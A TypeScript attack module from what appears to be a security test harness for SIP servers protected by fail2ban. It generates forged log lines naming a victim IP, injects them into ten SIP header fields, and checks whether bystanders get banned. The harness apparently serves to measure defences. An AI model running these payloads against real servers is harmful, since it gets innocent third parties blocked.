import { setTimeout as pause } from "node:timers/promises";
import { above, type Attack } from "./attack";
import { passerBy, type Bystander } from "./bystander";
import { askAll, askEverywhere, type Order, type Reply } from "./stranger";
import { doors, type Target } from "./target";
import { officeSource } from "./thief";

/** Twenty texts that pretend to be the end of one line or field and the beginning of another, about `victim`. */
function lies(victim: string): string[] {
  const fields = ['"', '\\"', '\\\\"', "'"].map((quote) => `RemoteAddress=${quote}IPV4/UDP/${victim}/5060${quote}`);
  const pretended = fields.flatMap((field) => ['x",', 'x\\",'].map((ending) => `${ending}${field},y="`));
  const notices = ["x", "1", "z) - Failed", "0"].flatMap((word) =>
    ["y", "call"].map((id) => `${word}) ' failed for '${victim}:5060' (callid: ${id}`),
  );
  return [
    ...notices,
    ...pretended,
    `x' failed for '${victim}:5060' - Wrong password`,
    `x\\n[2026-11-22 00:00:00] NOTICE[1] chan_sip.c: Registration from 'x' failed for '${victim}:5060' - Wrong password`,
    `x","message":"SecurityEvent=\\"InvalidPassword\\",RemoteAddress=\\"IPV4/UDP/${victim}/5060\\""}`,
    `x"}\\n{"message":"SecurityEvent=\\"FailedACL\\",RemoteAddress=\\"IPV4/UDP/${victim}/5060\\""}`,
  ];
}

/** Ten places of a request that reach a log. */
const places: readonly ((uri: string, lie: string) => Partial<Order>)[] = [
  (_uri, lie) => ({ callId: lie }),
  (uri, lie) => ({ callId: lie, method: "INVITE", uri: uri.replace(":", ":1000@") }),
  (_uri, lie) => ({ headers: { "User-Agent": lie } }),
  (uri, lie) => ({ from: `"${quoted(lie)}" <${uri.replace(":", ":1000@")}>` }),
  (uri, lie) => ({ from: `<${uri.replace(":", `:${encodeURIComponent(lie)}@`)}>` }),
  (uri, lie) => ({ to: `<${uri.replace(":", `:${encodeURIComponent(lie)}@`)}>` }),
  (uri, lie) => ({ headers: { Contact: `<${uri}>;a="${quoted(lie)}"` } }),
  (uri, lie) => ({ headers: digest(uri, lie, "1/a", zeros) }),
  (uri, lie) => ({ headers: digest(uri, "1000", lie, zeros) }),
  (uri, lie) => ({ headers: digest(uri, "1000", "1/a", lie) }),
];

const zeros = "0".repeat(32);
const quoted = (text: string) => text.replaceAll('"', '\\"');
const digest = (uri: string, user: string, nonce: string, response: string) => ({
  Authorization: `Digest username="${user}", realm="asterisk", nonce="${nonce}", uri="${uri}", response="${response}", algorithm=MD5`,
});

/** Every lie in one place after the other; each bunch is sent from an address of its own, since a ban ends it. */
function bunches(target: Target, victim: string): Order[][] {
  const uri = `sip:${target.address}`;
  const account = `<sip:1000@${target.address}>`;
  const order = { method: "REGISTER", uri, from: account, to: account };
  return places.map((place) => lies(victim).map((lie) => ({ ...order, ...place(uri, lie) })));
}

/** How many of all requests, each bunch from its own address, were answered, through the door that answered most. */
async function sendAsStrangers(target: Target, victim: string): Promise<number> {
  const all = await Promise.all(
    bunches(target, victim).map((orders) => askEverywhere(target, orders, { workers: 1, patience: 0.5 })),
  );
  return Math.max(...doors.map((_, door) => count(all.flatMap((heard) => heard[door]?.replies ?? []))));
}

/** The same from a listed network, which is heard where strangers are not. */
async function sendFromOffice(target: Target, victim: string): Promise<number> {
  const sent = bunches(target, victim).map((orders, index) =>
    askAll(target, { over: "udp", port: 5060 }, orders, {
      ...{ source: officeSource(target, index), place: "office", workers: 1, giveUp: 20, patience: 0.5 },
    }),
  );
  return count((await Promise.all(sent)).flat());
}

const count = (replies: readonly Reply[]) => replies.filter(({ status }) => status !== null).length;

/** Longer than a stranger has to wait between two connections, so that what keeps one out is a ban, and than a ban takes. */
const strangersPace = 6000;

/** Whether the bystander is banned by now. */
async function isCut(bystander: Bystander): Promise<boolean> {
  await pause(strangersPace);
  return !(await bystander.heard());
}

/** Has a third party banned by what stands in requests. */
export const logInjection: Attack = {
  name: "log-injection",
  what: "sends 200 requests with forged log lines in ten places, from strangers and from a listed network, to have a third party banned",
  measures: "third parties banned of 2",
  goal: "0",
  weak: ["fail2ban22"],
  run: async (target) => {
    const [outside, inside] = [passerBy(target), passerBy(target)];
    for (const one of [outside, inside])
      if (!(await one.heard())) throw new Error(`before the attack ${target.name} does not answer ${one.address}`);
    const strangers = await sendAsStrangers(target, outside.address);
    const insiders = await sendFromOffice(target, inside.address);
    const cut = await Promise.all([isCut(outside), isCut(inside)]);
    const note = `of 200: strangers answered ${strangers}, the listed network ${insiders}`;
    return above(0, cut.filter(Boolean).length, note);
  },
};
